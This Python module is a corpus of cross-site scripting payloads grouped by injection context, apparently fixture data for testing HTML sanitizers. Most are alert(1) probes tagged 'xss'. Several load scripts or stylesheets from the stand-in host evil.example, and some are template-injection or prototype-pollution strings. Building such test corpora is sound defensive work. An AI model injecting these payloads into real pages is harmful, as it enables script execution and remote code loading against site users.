"""Texts that run in a page that shows one of them as it stands: by the place in which each is at work.

An element or attribute that a text has made bears `xss` in its name, whatever else it is; who runs one opens a dialog.
"""

from __future__ import annotations

IN_HTML = (
    "<script xss>alert(1)</script>",
    "<ScRiPt xss >alert(1)</sCrIpT >",
    "<script/xss>alert(1)</script>",
    "<scr<script xss>ipt>alert(1)</scr</script>ipt>",
    "<img xss src=x onerror=alert(1)>",
    "<img/xss/src='x'/onerror=alert(1)//",
    "<body xss onload=alert(1)>",
    "<input xss autofocus onfocus=alert(1)>",
    "<details xss open ontoggle=alert(1)>",
    "<video xss><source onerror=alert(1)></video>",
    "<marquee xss onstart=alert(1)>",
    "<iframe xss srcdoc='<script>alert(1)</script>'></iframe>",
    "<object xss data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed xss src='data:text/html,<script>alert(1)</script>'>",
    "<base xss href='//evil.example/'>",
    "<meta xss http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form xss action=javascript:alert(1)><button>go</button></form>",
    "<!--><img xss src=x onerror=alert(1)>-->",
    "<![CDATA[<img xss src=x onerror=alert(1)>]]>",
    "<noscript><p title='</noscript><img xss src=x onerror=alert(1)>'>",
    "<template><img xss src=x onerror=alert(1)></template>",
    "</title><script xss>alert(1)</script>",
    "</textarea><script xss>alert(1)</script>",
    "</option></select><img xss src=x onerror=alert(1)>",
    "</pre></code></td></table><img xss src=x onerror=alert(1)>",
    "&lt;img xss src=x onerror=alert(1)&gt;",
    "＜script xss＞alert(1)＜/script＞",
    "\u202e<img xss src=x onerror=alert(1)>\u202c",
    "<\u200bimg xss src=x onerror=alert(1)>",
    "<img xss src=x\u2028onerror=alert(1)>",
)
IN_ATTRIBUTE = (
    '" xss="" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' xss='' onmouseover='alert(1)' autofocus onfocus='alert(1)",
    '"><script xss>alert(1)</script>',
    "'><script xss>alert(1)</script>",
    "` xss onerror=alert(1) `",
    " xss onfocus=alert(1) autofocus ",
    '" xss style="animation-name:x" onanimationstart="alert(1)',
    '"/><a xss href="javascript:alert(1)">x</a><a "',
    "&quot; xss onfocus=alert(1) autofocus &quot;",
    '" accesskey="x" xss onclick="alert(1)',
)
IN_URL = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " \x01javascript:alert(1)".replace("\x01", "\u00a0"),
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "javascript://%0aalert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script xss>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "//evil.example/x.js",
    "\\\\evil.example\\x.js",
    "/admin/%22%3E%3Cscript%20xss%3Ealert(1)%3C/script%3E",
)
IN_SCRIPT = (
    "';alert(1);//",
    '";alert(1);//',
    "`;alert(1);//",
    "${alert(1)}",
    "</script><script xss>alert(1)</script>",
    "<!--<script xss>alert(1)",
    "\\';alert(1);//",
    "\u2028alert(1)//",
    "*/alert(1)/*",
    "{{constructor.constructor('alert(1)')()}}",
    "{{7*7}}{% debug %}",
)
IN_SVG = (
    "<svg xss onload=alert(1)>",
    "<svg xss><script>alert(1)</script></svg>",
    "<svg xss><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg xss><a xlink:href='javascript:alert(1)'><text y=9>x</text></a></svg>",
    "<svg xss><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "</text></svg><img xss src=x onerror=alert(1)>",
    "<math xss><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
)
IN_JSON = (
    '"}</script><script xss>alert(1)</script>',
    "\\u003cscript xss\\u003ealert(1)\\u003c/script\\u003e",
    '{"__proto__": {"innerHTML": "<img xss src=x onerror=alert(1)>"}}',
    '"],"x":[alert(1)],"y":["',
    '<!--<script>"</script>--><img xss src=x onerror=alert(1)>',
)
IN_CSS = (
    "</style><script xss>alert(1)</script>",
    "expression(alert(1))",
    "red;background:url(javascript:alert(1))",
    "x:url(//evil.example/x)}*{display:none",
    "@import '//evil.example/x.css';",
)
SCRIPTS = (*IN_HTML, *IN_ATTRIBUTE, *IN_URL, *IN_SCRIPT, *IN_SVG, *IN_JSON, *IN_CSS)
